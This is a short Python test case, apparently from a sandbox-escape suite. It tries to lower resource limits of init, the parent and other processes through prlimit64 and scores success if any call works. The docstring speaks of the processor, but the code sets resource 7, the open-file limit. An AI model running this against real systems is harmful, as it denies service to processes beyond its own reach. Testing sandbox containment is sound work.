"""Takes the processor away from its init and everybody else with a limit.

stopped_by: seccomp: limits of another process cannot be set
plain bwrap: succeeds
"""

import os

from tools import others, syscall


def attack():
    import ctypes

    won = 0.0
    for pid in {1, os.getppid(), *others()}:
        limit = (ctypes.c_uint64 * 2)(64, 64)
        if syscall("prlimit64", pid, 7, ctypes.byref(limit), 0) >= 0:
            won = 1.0
    return won
